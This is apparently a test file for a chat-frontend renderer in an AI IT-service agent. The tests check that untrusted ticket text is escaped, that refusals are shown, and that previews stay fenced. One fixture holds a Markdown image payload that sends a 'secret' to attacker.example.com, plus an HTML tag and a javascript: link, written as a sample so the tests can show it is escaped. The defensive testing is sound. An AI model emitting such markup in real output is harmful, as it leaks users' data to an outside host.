"""Turn events as Markdown for chat frontends: Halo text stays inert, previews stay whole."""

from __future__ import annotations

import re

from halo_agent.agent.events import FinalAnswer, Paused, PolicyDecisionEvent, TextDelta, ToolResultEvent
from halo_agent.channels.chat_text import ChatText, escape_markdown, fenced

PLANTED = "VPN ![x](https://attacker.example.com/?q=secret) <img src=x> | [click](javascript:1)"


def test_halo_text_in_a_ticket_table_cannot_become_a_link_an_image_or_a_column() -> None:
    text = ChatText()
    rows = [{"id": 901, "summary": PLANTED, "status": "New"}, {"id": 902, "summary": "P", "status": "New"}]
    text.feed(ToolResultEvent(call_id="c", tool="haloitsm_list_tickets", status="ok", summary="2",
                              data={"untrusted_data": {"tickets": rows}}))  # fmt: skip
    shown = text.feed(FinalAnswer(text="You have two tickets."))
    table = shown.split("\n\n")[-1].splitlines()
    assert table[0] == "| id | summary | status |" and len(table) == 4
    cell = table[2].split(" | ")[1]
    assert re.findall(r"(?<!\\)[!\[\]()<>|]", cell) == []  # every Markdown/HTML character escaped
    assert all(line.count(" | ") == 2 for line in table if not line.startswith("|-"))  # no extra column


def test_no_table_when_the_answer_already_names_every_ticket() -> None:
    text = ChatText()
    text.feed(ToolResultEvent(call_id="c", tool="t", status="ok", summary="1",
                              data={"result": {"tickets": [{"id": 789, "summary": "Email"}]}}))  # fmt: skip
    assert text.feed(FinalAnswer(text="Ticket 789 is open.")) == "Ticket 789 is open."


def test_a_streamed_answer_is_not_repeated_and_a_refusal_is_its_own_paragraph() -> None:
    text = ChatText()
    out = [text.feed(TextDelta(text="Ticket 790 ")), text.feed(TextDelta(text="is not yours."))]
    out.append(text.feed(PolicyDecisionEvent(call_id="c", tool="t", decision="deny", rule_id="own-only",
                                             reason="not_your ticket")))  # fmt: skip
    out.append(text.feed(FinalAnswer(text="Ticket 790 is not yours.")))
    assert "".join(out) == "Ticket 790 is not yours.\n\n_Refused by policy (own-only): not\\_your ticket_"


def test_a_preview_with_backticks_stays_inside_its_fence() -> None:
    preview = "Note: ```\n**not bold**"
    shown = ChatText().feed(Paused(kind="confirmation", pending_id="p1", tool="t", preview=preview))
    assert fenced(preview) in shown and shown.count("````") == 2 and "Reply **yes**" in shown
    assert escape_markdown("a\nb  c") == "a b c"
